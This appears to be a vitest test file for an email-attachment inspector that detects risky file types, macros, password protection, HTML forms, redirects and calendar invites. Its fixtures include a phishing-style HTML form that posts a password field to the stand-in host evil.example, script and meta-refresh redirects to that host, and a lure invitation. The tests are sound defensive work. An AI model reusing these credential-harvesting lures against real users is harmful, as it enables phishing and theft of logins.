import { describe, expect, it } from 'vitest';
import { LIMITS } from '../message.js';
import { type File, inspectAttachment } from './inspect.js';
import { qrPng, zipOf } from './testing/files.js';

const inspect = (given: Partial<Omit<File, 'bytes'>> & { bytes: Buffer | string }, limits = {}) => {
  const bytes = Buffer.from(given.bytes as string, 'latin1');
  const file = { name: null, type: 'application/octet-stream', charset: null, ...given, bytes };
  return inspectAttachment(file, { ...LIMITS, ...limits });
};
const at = (place: number, text: string) => Buffer.concat([Buffer.alloc(place), Buffer.from(text)]);
const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const compound = (name: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), utf16(name)]);

const page = async (source: string, more: Partial<File> = {}) =>
  (await inspect({ bytes: source, ...more })).page;

const cms = (identifier: string) => Buffer.from(`308006092a864886f70d0107${identifier}a0803080`, 'hex');

describe('the kind of an attachment', () => {
  it.each([
    ['exe', 'MZ\x90\0\x03'],
    ['pdf', '%PDF-1.7\n'],
    ['7z', '7z\xbc\xaf\x27\x1c'],
    ['rar', 'Rar!\x1a\x07\x01\0'],
    ['elf', '\x7fELF\x02\x01\x01'],
    ['lnk', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46'],
    ['one', Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')],
    ['tnef', Buffer.from('789f3e22', 'hex')],
    ['iso', at(0x8001, 'CD001')],
    ['vhdx', 'vhdxfile'],
    ['dmg', Buffer.concat([Buffer.from('koly'), Buffer.alloc(508)])],
    ['png', qrPng('x')],
    [null, 'Dear all,'],
    [null, ''],
    [null, 'P'],
  ])('is %s by its bytes, whatever it is called', async (kind, bytes) => {
    expect(await inspect({ name: 'invoice.pdf', type: 'application/pdf', bytes })).toEqual({ kind });
  });
});

describe('an archive', () => {
  it('is listed, and says that it needs a password', async () => {
    expect(await inspect({ bytes: zipOf([{ name: 'a/b.txt' }, { name: 'ü.exe' }]) })).toEqual({
      kind: 'zip',
      archive: { names: ['a/b.txt', 'ü.exe'], isWhole: true },
    });
    for (const flags of [0x1, 0x41])
      expect(await inspect({ bytes: zipOf([{ name: 'a', flags }]) })).toMatchObject({
        protection: 'password',
      });
  });

  it('keeps the ends of names, of as many files as may be listed', async () => {
    const bytes = zipOf([{ name: `${'x'.repeat(65_000)}.exe` }, { name: '../../b\0.txt' }, { name: 'c' }]);
    expect((await inspect({ bytes }, { entries: 2 })).archive).toEqual({
      names: [`${'x'.repeat(96)}.exe`, '../../b.txt'],
      isWhole: false,
    });
  });

  it.each([
    ['says that it has more files than it has', zipOf([{ name: 'a' }], 60_000), ['a']],
    ['has no end', zipOf([{ name: 'a' }]).subarray(0, -30), []],
    ['has nothing but a beginning', Buffer.from('PK\x03\x04'), []],
    ['says that it is a ZIP64 without being one', zipOf([{ name: 'a' }]).fill(0xff, 103, 107), []],
  ])('is not whole where it %s', async (_, bytes, names) => {
    expect((await inspect({ bytes })).archive).toEqual({ names, isWhole: false });
  });
});

describe('a document', () => {
  it.each([
    [
      'macros, in a ZIP',
      zipOf([{ name: '[Content_Types].xml' }, { name: 'xl/vbaProject.bin' }]),
      { hasMacros: true },
    ],
    ['macros, in a compound file', compound('_VBA_PROJECT'), { hasMacros: true }],
    ['a password', compound('EncryptedPackage'), { protection: 'password' }],
  ])('has %s', async (_, bytes, found) => {
    expect(await inspect({ bytes })).toMatchObject(found);
  });

  it('has no macros by its name', async () => {
    const { hasMacros } = await inspect({ name: 'a.xlsm', bytes: zipOf([{ name: 'xl/workbook.xml' }]) });
    expect(hasMacros).toBeUndefined();
  });
});

describe('a page', () => {
  it('is one by its beginning, its type or its name', async () => {
    const nothing = {
      hasForm: false,
      hasPasswordField: false,
      hasScript: false,
      redirects: false,
      links: [],
    };
    for (const source of ['<!DOCTYPE html><p>', '\n<!-- x --><html>', '<svg xmlns="a">', '<script>'])
      expect(await page(source, { name: 'invoice.pdf' })).toMatchObject({ hasForm: false });
    expect(await page('Hi', { type: 'text/html' })).toEqual(nothing);
    expect(await page('Hi', { name: 'A.SHTML ' })).toEqual(nothing);
    expect(await page('<p>Hi', { name: 'a.txt', type: 'text/plain' })).toBeUndefined();
  });

  it('says what it does and where it leads', async () => {
    expect(
      await page('<form action="https://evil.example/?a=1&amp;b=2"><input name=p type="password"></form>', {
        type: 'text/html',
      }),
    ).toEqual({
      hasForm: true,
      hasPasswordField: true,
      hasScript: false,
      redirects: false,
      links: ['https://evil.example/?a=1&b=2'],
    });
    expect(
      await page('<html><meta http-equiv="refresh" content="0; url=https://evil.example/x">'),
    ).toMatchObject({
      redirects: true,
      links: ['https://evil.example/x'],
    });
    expect(await page('<script>window.location.href="https://evil.example/y"</script>')).toMatchObject({
      hasScript: true,
      redirects: true,
      links: ['https://evil.example/y'],
    });
    expect(await page('<html><p>Our location = Bonn')).toMatchObject({ hasScript: false });
  });

  it('is read in its charset, and no further than all together may be', async () => {
    const utf16Page = Buffer.concat([Buffer.from([0xff, 0xfe]), utf16('<html><form>')]);
    expect((await inspect({ bytes: utf16Page, charset: 'utf-16' })).page).toMatchObject({ hasForm: true });
    const bytes = `<html>${' '.repeat(100)}<form>`;
    const budget = { ...LIMITS, attachedText: 200 };
    const file = { name: null, type: 'text/html', charset: null, bytes: Buffer.from(bytes) };
    expect((await inspectAttachment(file, budget)).page?.hasForm).toBe(true);
    expect((await inspectAttachment(file, budget)).page?.hasForm).toBe(false);
    expect(budget.attachedText).toBe(0);
  });
});

describe('an invitation', () => {
  it('says who invites, and where it leads', async () => {
    const bytes = [
      'BEGIN:VCALENDAR',
      'METHOD:REQUEST',
      'ORGANIZER;CN="Eve":mailto:eve@evil.example',
      'DESCRIPTION:Join at https://evil.exa',
      ' mple/join\\nnow',
      'END:VCALENDAR',
    ].join('\r\n');
    expect(await inspect({ bytes, type: 'text/calendar' })).toMatchObject({
      invitation: { organiser: 'eve@evil.example', links: ['https://evil.example/join'] },
    });
    expect(await inspect({ bytes: 'BEGIN:VCALENDAR' })).toMatchObject({
      invitation: { organiser: null, links: [] },
    });
  });
});

describe('what can not be read', () => {
  it.each([
    ['encrypted', 'application/pkcs7-mime', cms('03')],
    ['signed', 'application/x-pkcs7-mime', cms('02')],
    ['encrypted', 'application/octet-stream', '\r\n-----BEGIN PGP MESSAGE-----\r\n'],
    [undefined, 'application/pkcs7-signature', cms('02')],
    [undefined, 'application/pgp-signature', '-----BEGIN PGP SIGNATURE-----'],
  ])('is %s: %s', async (protection, type, bytes) => {
    expect((await inspect({ type, bytes })).protection).toBe(protection);
  });
});
